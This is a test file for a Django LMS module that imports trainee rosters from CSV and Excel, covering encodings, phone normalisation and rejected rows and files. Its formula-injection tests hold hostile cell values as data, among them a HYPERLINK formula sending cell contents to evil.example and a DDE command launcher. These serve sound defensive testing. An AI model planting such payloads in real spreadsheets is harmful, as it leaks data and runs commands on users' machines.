"""Reading roster files (``courses.roster_files``): formats, encodings, cell
types, and every kind of refused row or file.  No database."""

import datetime
import io
import random
import zipfile

import openpyxl
import pytest
from django.utils import translation

from courses.roster_files import (
    MAX_ROWS,
    TEMPLATE_COLUMNS,
    RosterRefused,
    normalise_phone,
    read_roster,
    template_csv,
    template_xlsx,
)
from lms.core.models import Role

HEADER = list(TEMPLATE_COLUMNS)


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def xlsx(rows: list[list], *, title_rows: int = 0) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for _ in range(title_rows):
        sheet.append(["2026 新警心理专题训练班 花名册"])
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_text(rows: list[list[str]]) -> str:
    return "".join(",".join(row) + "\r\n" for row in rows)


def codes(row) -> list[str]:
    return [code for code, _message in row.problems]


def refusal(data) -> str:
    with pytest.raises(RosterRefused) as refused:
        read_roster(data, filename="roster.xlsx")
    return refused.value.message


# --- the template and formats ---------------------------------------------------


def test_the_xlsx_template_reads_back_as_its_example_row():
    # when the untouched template is read
    rows = read_roster(template_xlsx(units=[("east", "东区站")]), filename="t.xlsx")
    # then its one example row is a valid trainee on row 2
    assert len(rows) == 1
    row = rows[0]
    assert (row.line, row.name, row.email, row.phone, row.staff_number) == (
        2,
        "张三",
        "zhangsan@example.com",
        "13800138000",
        "010203",
    )
    assert row.roles == (Role.TRAINEE,) and row.ok


def test_the_xlsx_template_has_a_bold_header_and_text_columns_for_numbers():
    book = openpyxl.load_workbook(io.BytesIO(template_xlsx(units=[("east", "东区站")])))
    sheet = book.worksheets[0]
    assert [cell.value for cell in sheet[1]] == HEADER
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet["D3"].number_format == "@"  # 手机号 keeps its digits
    assert sheet["E3"].number_format == "@"  # 警号 keeps leading zeros
    assert ["east", "东区站"] in [
        [c.value for c in row] for row in book["单位编码"].iter_rows()
    ]


def test_the_csv_template_has_a_bom_and_reads_back():
    data = template_csv()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data[3:].decode("utf-8").splitlines()[0] == ",".join(HEADER)
    rows = read_roster(data, filename="t.csv")
    assert [(r.line, r.name, r.staff_number) for r in rows] == [(2, "张三", "010203")]


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8", "utf-8-sig", "utf-16"])
def test_csv_in_the_encodings_excel_writes_is_read(encoding):
    # given a CSV as Excel in China saves it (GBK), or as UTF-8 with or without BOM
    text = csv_text(
        [HEADER, ["王小明", "", "wxm@example.com", "13912345678", "000777", "督导"]]
    )
    rows = read_roster(text.encode(encoding), filename="名单.csv")
    # then the Chinese text and the leading zeros come through
    assert rows[0].name == "王小明"
    assert rows[0].staff_number == "000777"
    assert rows[0].roles == (Role.SUPERVISOR,)


def test_the_file_name_does_not_decide_the_format():
    data = csv_text([HEADER, ["张三", "", "z@example.com", "", "", ""]]).encode()
    assert read_roster(data, filename="roster.xlsx")[0].name == "张三"
    assert read_roster(xlsx([HEADER, ["李四", "", "l@example.com"]]), filename="x.csv")


def test_tab_separated_text_is_read():
    data = "姓名\t邮箱\n张三\tz@example.com\n".encode()
    assert read_roster(data, filename="r.txt")[0].email == "z@example.com"


def test_english_headers_and_a_title_row_above_the_header():
    data = xlsx(
        [
            ["Name", "Unit", "Email", "Phone", "Staff number", "Roles"],
            ["Zhang San", "east-room", "zs@example.com", "", "", "trainee, leader"],
        ],
        title_rows=1,
    )
    [row] = read_roster(data, filename="r.xlsx")
    assert row.line == 3  # the title is row 1, the header row 2
    assert row.unit_code == "east-room"
    assert row.roles == (Role.TRAINEE, Role.LEADER)


def test_blank_rows_are_skipped_and_line_numbers_stay_those_excel_shows():
    data = xlsx(
        [
            HEADER,
            ["甲", "", "a@example.com"],
            [],
            [None, "  ", None],
            ["乙", "", "b@example.com"],
        ]
    )
    assert [(r.line, r.name) for r in read_roster(data, filename="r.xlsx")] == [
        (2, "甲"),
        (5, "乙"),
    ]


def test_excel_numbers_and_dates_come_through_as_text():
    # given numbers stored as numbers, and numbers and dates stored as text
    data = xlsx(
        [
            HEADER,
            ["数字", "", "", 13800138000, 12345, ""],
            ["文本", "", "", "13900139000", "00123", ""],
            ["日期", "", "d@example.com", "", datetime.datetime(2024, 1, 2), ""],
            ["日期文本", "", "t@example.com", "", "2024/01/02", ""],
        ]
    )
    rows = read_roster(data, filename="r.xlsx")
    # then no "1.38e10", no "12345.0", leading zeros kept, dates as typed
    assert [(r.phone, r.staff_number) for r in rows] == [
        ("13800138000", "12345"),
        ("13900139000", "00123"),
        ("", "2024-01-02"),
        ("", "2024/01/02"),
    ]
    assert all(r.ok for r in rows)


def test_whitespace_including_full_width_spaces_is_stripped_and_email_lowered():
    data = csv_text(
        [HEADER, ["\u3000 张三\u3000", " east ", " ZS@Example.COM ", "", "", ""]]
    )
    [row] = read_roster(data.encode(), filename="r.csv")
    assert (row.name, row.unit_code, row.email) == ("张三", "east", "zs@example.com")


@pytest.mark.parametrize(
    "given, expected",
    [
        ("13800138000", "13800138000"),
        ("138 0013 8000", "13800138000"),
        ("138-0013-8000", "13800138000"),
        ("+86 138 0013 8000", "13800138000"),
        ("+8613800138000", "13800138000"),
        ("8613800138000", "13800138000"),
        ("0086-138-0013-8000", "13800138000"),
        ("13800138000.0", "13800138000"),
        ("１３８００１３８０００", "13800138000"),  # full-width digits
    ],
)
def test_phone_numbers_are_normalised(given, expected):
    data = csv_text([HEADER, ["张三", "", "z@example.com", given, "", ""]])
    [row] = read_roster(data.encode(), filename="r.csv")
    assert row.ok, row.problems
    assert row.phone == expected


def test_normalise_phone_leaves_other_lengths_alone():
    assert normalise_phone("86138") == "86138"
    assert normalise_phone("+86 10 1234 5678") == "+861012345678"


# --- refused rows ----------------------------------------------------------------


def test_each_kind_of_bad_row_is_reported_on_its_row():
    # given one row of each kind of problem after a good one
    data = csv_text(
        [
            HEADER,
            ["好人", "", "good@example.com", "13800138000", "A001", ""],
            ["", "", "noname@example.com", "", "", ""],
            ["长" * 81, "", "long@example.com", "", "", ""],
            ["坏邮箱", "", "not-an-email", "", "", ""],
            ["坏手机", "", "phone@example.com", "12345", "", ""],
            ["科学计数", "", "sci@example.com", "1.38001E+10", "", ""],
            ["坏角色", "", "role@example.com", "", "", "学员、老板"],
            ["重复邮箱", "", "GOOD@example.com", "", "", ""],
            ["重复手机", "", "p2@example.com", "138 0013 8000", "", ""],
            ["重复警号", "", "s2@example.com", "", "A001", ""],
            ["无标识", "", "", "13700137000", "", ""],
            ["长警号", "", "", "", "9" * 33, ""],
        ]
    )
    rows = {row.name[:4]: row for row in read_roster(data.encode(), filename="r.csv")}
    # then each row carries its own code, and the good row none
    assert rows["好人"].ok
    assert codes(rows[""]) == ["missing_name"]
    assert codes(rows["长长长长"]) == ["name_too_long"]
    assert codes(rows["坏邮箱"]) == ["bad_email"]
    assert codes(rows["坏手机"]) == ["bad_phone"]
    assert codes(rows["科学计数"]) == ["bad_phone"]
    assert "scientific" not in rows["科学计数"].problems[0][1]  # a sentence, not jargon
    assert "text" in rows["科学计数"].problems[0][1]
    assert codes(rows["坏角色"]) == ["unknown_role"]
    assert "老板" in rows["坏角色"].problems[0][1]
    for name, what in (
        ("重复邮箱", "email"),
        ("重复手机", "phone"),
        ("重复警号", "staff"),
    ):
        assert codes(rows[name]) == ["duplicate"]
        assert (
            what in rows[name].problems[0][1] and "row 2" in rows[name].problems[0][1]
        )
    assert codes(rows["无标识"]) == ["no_identifier"]
    assert codes(rows["长警号"]) == ["staff_number_too_long"]
    # and every message is a sentence
    for row in rows.values():
        for _code, message in row.problems:
            assert message[0].isupper() or not message[0].isascii()
            assert message.rstrip().endswith(".")


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=cmd|' /C calc'!A0",
    ],
)
def test_a_cell_a_spreadsheet_would_run_refuses_the_row_and_is_not_kept(cell):
    data = csv_text(
        [HEADER, ['"' + cell.replace('"', '""') + '"', "", "x@example.com"]]
    )
    [row] = read_roster(data.encode(), filename="r.csv")
    assert codes(row) == ["formula"]
    assert row.name == ""  # never stored, not even in the report
    assert "姓名" in row.problems[0][1]


def test_a_real_formula_cell_in_a_workbook_is_refused_not_replaced_by_its_value():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    sheet.append(['=HYPERLINK("http://evil.example","张三")', "", "x@example.com"])
    sheet.append(["李四", "", "=A2", "", "", ""])
    out = io.BytesIO()
    book.save(out)
    rows = read_roster(out.getvalue(), filename="r.xlsx")
    assert [codes(row) for row in rows] == [["formula"], ["formula"]]
    assert rows[0].name == "" and rows[1].email == ""


def test_a_phone_with_a_plus_is_a_number_not_a_formula():
    data = csv_text([HEADER, ["张三", "", "z@example.com", "+86 13800138000", "", ""]])
    [row] = read_roster(data.encode(), filename="r.csv")
    assert row.ok and row.phone == "13800138000"


def test_several_roles_and_separators():
    data = csv_text(
        [HEADER, ["张三", "", "z@example.com", "", "", '"督导，培训管理员;领导/督导"']]
    )
    [row] = read_roster(data.encode(), filename="r.csv")
    assert row.roles == (Role.SUPERVISOR, Role.COORDINATOR, Role.LEADER)


# --- refused files ---------------------------------------------------------------


def test_random_bytes_are_not_a_spreadsheet():
    noise = random.Random(4).randbytes(4096)
    assert "not a spreadsheet" in refusal(noise)


def test_an_image_is_not_a_spreadsheet():
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01" + b"\x00" * 64
    assert "not a spreadsheet" in refusal(png)


@pytest.mark.parametrize("data", [b"", b"   \r\n\r\n"])
def test_an_empty_file_is_refused(data):
    assert refusal(data) == "The file is empty."


def test_an_old_xls_file_is_asked_to_be_saved_as_xlsx():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    assert ".xlsx" in refusal(ole)


def test_a_zip_that_is_not_a_workbook_and_a_damaged_workbook_are_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    assert "not an Excel workbook" in refusal(out.getvalue())
    assert "damaged" in refusal(xlsx([HEADER])[:300])


def test_a_header_without_a_name_column_is_refused():
    data = csv_text([["单位编码", "邮箱", "手机号"], ["east", "a@example.com", ""]])
    assert "姓名" in refusal(data.encode())


def test_a_file_without_a_header_row_is_refused():
    data = csv_text([["张三", "z@example.com", "13800138000"]] * 3)
    assert "header" in refusal(data.encode())
    assert "header" in refusal("Dear colleagues,\nplease find attached…\n".encode())


def test_a_header_with_no_people_is_refused():
    assert "no people" in refusal(xlsx([HEADER]))


def test_a_column_given_twice_is_refused():
    assert "twice" in refusal(csv_text([["姓名", "邮箱", "Email"]]).encode())


def test_more_rows_than_the_limit_are_refused():
    lines = [HEADER] + [
        [f"人{i}", "", f"p{i}@example.com"] for i in range(MAX_ROWS + 1)
    ]
    assert f"{MAX_ROWS:,}" in refusal(csv_text(lines).encode())
